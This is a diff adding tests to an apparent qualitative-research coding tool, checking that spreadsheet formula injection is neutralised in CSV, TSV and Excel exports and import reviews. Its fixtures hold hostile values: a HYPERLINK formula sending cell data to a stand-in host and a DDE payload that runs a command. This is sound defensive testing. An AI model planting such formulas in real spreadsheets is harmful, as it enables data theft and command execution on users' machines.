@@ -287,3 +287,43 @@ describe('import-codings --dry-run', () => {
     expect(snapshot(dir)).toEqual(before);
   });
 });
+
+describe('hostile text never runs as a formula in a spreadsheet', () => {
+  it('segments csv, tsv and excel: a code, a theme and a memo written as formulas are read as text; --json keeps them exact', () => {
+    const dir = copyStudy();
+    const codebook = join(dir, 'codebook.yaml');
+    writeFileSync(codebook, readFileSync(codebook, 'utf8').replace('- name: Impuissance', "- name: '=HYPERLINK(\"http://x.example/?\"&A1,\"voir\")'").replace('- name: Vécu du médecin', "- name: '@SUM(1+1)'"));
+    editLines(join(dir, 'codings/paul.yaml'), (lines) => {
+      const i = segmentLine(lines, 0);
+      lines[i] = lines[i]!.replace(/\}$/, ', "memo": "+cmd|\' /C calc\'!A0\\rsuite"}');
+    });
+    for (const format of ['csv', 'tsv', 'excel']) {
+      const r = runCli(['segments', '--study', dir, '--code', 'impuissance', '--format', format]);
+      expect(r.code).toBe(0);
+      const delimiter = format === 'tsv' ? '\t' : format === 'excel' ? ';' : ',';
+      const cells = r.stdout.replace(/^\ufeff/, '').split(/\r?\n/).slice(1, -1).flatMap((line) => line.split(delimiter));
+      expect(cells.length).toBeGreaterThan(0);
+      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r-]/);
+      expect(r.stdout).toContain(`'=HYPERLINK(`);
+      expect(r.stdout).toContain(`'@SUM(1+1)`);
+    }
+    const memo = runCli(['segments', '--study', dir, '--coder', 'paul', '--format', 'csv']);
+    expect(memo.stdout).toContain(`"'+cmd|' /C calc'!A0\rsuite"`);
+    const json = JSON.parse(runCli(['segments', '--study', dir, '--json']).stdout) as { code: string; theme: string; memo: string }[];
+    expect(json.some((row) => row.code === '=HYPERLINK("http://x.example/?"&A1,"voir")')).toBe(true);
+    expect(json.some((row) => row.theme.startsWith('@SUM(1+1)'))).toBe(true);
+    expect(json.some((row) => row.memo === "+cmd|' /C calc'!A0\rsuite")).toBe(true);
+  });
+
+  it('the import review: a quote or a code written as a formula is read as text', () => {
+    const dir = copyStudy();
+    const sheet = join(tempDir(), 'hostile.csv');
+    writeFileSync(sheet, 'Participant;Code;Verbatim\nMG1;=1+1;"=HYPERLINK(""http://x.example"")"\nMG1;-Impuissance;"@SUM(A1)"\n');
+    const review = join(tempDir(), 'review.csv');
+    const r = runCli(['import-codings', sheet, '--coder', 'nouveau', '--study', dir, '--review', review, '--lang', 'en']);
+    expect(r.code).toBe(0);
+    const lines = readFileSync(review, 'utf8').replace(/^\ufeff/, '').split('\n');
+    expect(lines[1]).toMatch(/^2,MG1,'=1\+1,"'=HYPERLINK\(""http:\/\/x\.example""\)",/);
+    expect(lines[2]).toMatch(/^3,MG1,'-Impuissance,'@SUM\(A1\),/);
+  });
+});
